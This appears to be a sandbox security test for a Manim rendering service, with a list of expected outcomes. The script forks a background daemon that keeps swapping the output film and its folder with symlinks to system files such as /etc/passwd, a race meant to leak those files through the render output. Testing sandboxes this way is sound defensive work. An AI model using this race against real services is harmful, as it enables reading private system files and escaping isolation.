# about: a daemon puts a link to a file of the system in the place of its film and back again, as fast as it can.
# expect: rendered|bad_output|no_output|script_exception

import glob
import os

from manim import *

target = next((path for path in ("/usr/lib/os-release", "/etc/passwd", "/usr/bin/env") if os.path.exists(path)), "/")
if os.fork() == 0:
    os.setsid()
    while True:
        for film in glob.glob(os.path.abspath("../out-*/Film.mp4")):
            for name in (film, os.path.dirname(film)):
                try:
                    os.symlink(target, name + ".link")
                    os.rename(name, name + ".kept")
                    os.rename(name + ".link", name)
                    os.rename(name + ".kept", name)
                except OSError:
                    pass


class Film(Scene):
    def construct(self):
        self.play(Create(Circle()), run_time=0.2)
